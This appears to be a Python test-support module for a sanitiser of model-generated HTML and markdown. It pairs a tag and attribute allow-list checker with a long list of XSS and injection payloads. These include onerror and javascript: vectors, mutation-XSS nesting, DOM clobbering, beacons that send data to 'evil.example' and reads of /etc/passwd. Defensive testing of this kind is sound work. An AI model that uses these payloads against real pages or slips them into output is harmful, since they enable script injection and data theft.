"""Texts that attack a page, and the allow-list that nothing gets out of."""

from urllib.parse import urlsplit

import html5lib

from ollama_magic.rendering import safe_html
from ollama_magic.rendering.highlight import CLASSES, PRE_STYLE
from ollama_magic.rendering.math_text import MATH_CLASS

_TAGS = """
b caption i kbd s sub sup u
a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody
td th thead tr ul
"""
TAGS = set(_TAGS.split())
VALUES = {
    ("div", "class"): {"tex2jax_ignore mathjax_ignore"},
    ("span", "class"): {*CLASSES, MATH_CLASS},
    ("pre", "class"): {"highlight"},
    ("pre", "style"): {PRE_STYLE, safe_html.TEXT_STYLE},
    ("a", "rel"): {"noopener noreferrer nofollow"},
}
CELL_STYLES = {f"text-align:{side}" for side in ("left", "center", "right")}


def violations(html: str, is_ours=lambda tag, name, value: False) -> list[str]:
    """Say what a browser would find in a page that may not be there.

    ``is_ours`` tells attributes of the constant markup around a model's text.
    """
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if element is tree:
            continue
        if element.tag not in TAGS:
            found.append(f"tag {element.tag}")
        for name, value in element.attrib.items():
            attribute = element.tag, name, value
            if not (is_allowed(*attribute) or is_ours(*attribute)):
                found.append(f"{element.tag} {name}={value}")
    return found


def is_allowed(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        return urlsplit(value).scheme in {"http", "https", "mailto"}
    if (tag, name) == ("ol", "start"):
        return value.isdigit()
    if (tag, name) == ("a", "title"):
        return True
    if tag in {"td", "th"} and name == "style":
        return value in CELL_STYLES
    return value in VALUES.get((tag, name), set())


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    f"text {SCRIPT} text",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=a><button>go</button></form>",
    "<button data-commandlinker-command='x'>go</button>",
    "<div style='position:fixed;inset:0'>over it</div>",
    "<div id=jp-main name=x data-x=1>clobber</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <b> --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<x onclick=alert(1) style=x>custom</x>",
    "<template><img src=x onerror=alert(1)></template>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<p title="</p><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](command:workbench.action.quit)",
    "[x](vscode://file/etc)",
    "[x](//evil.example/)",
    "[x](/lab?reset)",
    "[x](#jp-main)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'title\" onmouseover=alert(1) x=\"')",
    "[x](http://a.example){onclick=alert(1) style=x}",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: javascript:alert(1) 'title'",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "![x]\n\n[x]: http://evil.example/?q=secret",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    '![x" onerror="alert(1)](http://evil.example/a.png)',
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '<a@b.example" onclick=alert(1)>',
    f"`{SCRIPT}`",
    f"``{SCRIPT}",
    f"    {SCRIPT}",
    f"```\n{SCRIPT}\n```",
    f"```html\n{SCRIPT}\n```",
    f"```{SCRIPT}\nx\n```",
    '```" onclick=alert(1) x="\nx\n```',
    "```{.python onclick=alert(1) style=position:fixed}\nx\n```",
    "``` { .x #jp-main data-x=1 }\nx\n```",
    f"~~~html\n{SCRIPT}",
    f"- {SCRIPT}\n  - <img src=x onerror=alert(1)>",
    f"- ```\n  {SCRIPT}\n  ```",
    f"> {SCRIPT}\n> > [x](javascript:alert(1))",
    f"| a | b |\n|---|---|\n| {SCRIPT} | [x](javascript:alert(1)) |",
    "| a<br onclick=alert(1)> |\n|---|\n| <br/onclick=alert(1)> |",
    '| a |\n|:--" onclick=alert(1)|\n| b |',
    f"# {SCRIPT} {{#jp-main onclick=alert(1)}}",
    "text\n{: onclick=alert(1) }",
    f"$${SCRIPT}$$",
    f"$x{SCRIPT}$",
    f"\\({SCRIPT}\\) \\[{SCRIPT}\\]",
    "$$\n</span><img src=x onerror=alert(1)>\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>",
    "\ud800<script>alert(1)</script>\udfff",
    "<\x00script>alert(1)</script>",
    "<\u200bimg src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "*<img src=x onerror=*alert(1)*>*",
    "**[x](javascript:`alert`(1))**",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "[x](http://a.example/`<img src=x onerror=alert(1)>`)",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<pre>\n<img src=x onerror=alert(1)>\n</pre>",
    "*[x]: <img src=x onerror=alert(1)>\n\nx",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[TOC]\n\n!!! note\n    <img src=x onerror=alert(1)>",
    "--8<-- '/etc/passwd'",
]
